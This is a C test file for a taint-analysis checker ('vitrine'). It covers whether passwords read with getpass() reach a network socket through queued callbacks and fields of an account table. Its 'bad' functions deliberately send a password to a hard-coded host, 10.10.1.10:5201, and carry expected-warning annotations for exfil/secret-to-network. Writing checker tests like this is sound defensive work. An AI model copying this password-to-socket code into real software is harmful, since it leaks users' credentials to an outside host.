/* What stands in an element of a table: each function gets what was queued with it, and of an
 * account the name may leave, not the password. */
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static struct {
    void (*run)(const char *);
    const char *text;
} jobs[8];
static unsigned njobs;
static int is_long;

static int reach(void) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(5201)};
    int out = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "10.10.1.10", &peer.sin_addr);
    return connect(out, (struct sockaddr *)&peer, sizeof peer) == 0 ? out : -1;
}

static void later(void (*run)(const char *), const char *text) {
    jobs[njobs].run = run;
    jobs[njobs++].text = text;
}

void run_all(void) {
    for (unsigned i = 0; i < njobs; i++)
        jobs[i].run(jobs[i].text);
}

static void post(const char *text) {
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(reach(), text, strlen(text), 0);
}

static void greet(const char *text) {
    send(reach(), text, strlen(text), 0);
}

static void measure(const char *text) {
    is_long = strlen(text) > 12;
}

void bad_queue(void) {
    later(post, getpass("Password: "));
}

void good_queue(void) {
    later(greet, "station 5");
    later(measure, getpass("Password: "));
}

static struct account {
    char *name, *password;
    long uses;
} accounts[8];

void bad_account(unsigned i, unsigned k) {
    accounts[i].password = getpass("Password: ");
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(reach(), accounts[k].password, strlen(accounts[k].password), 0);
}

void good_account(unsigned i, char *name) {
    accounts[i].name = name;
    accounts[i].password = getpass("Password: ");
    for (struct account *account = accounts; account->name; account++)
        send(reach(), account->name, strlen(account->name), 0);
}
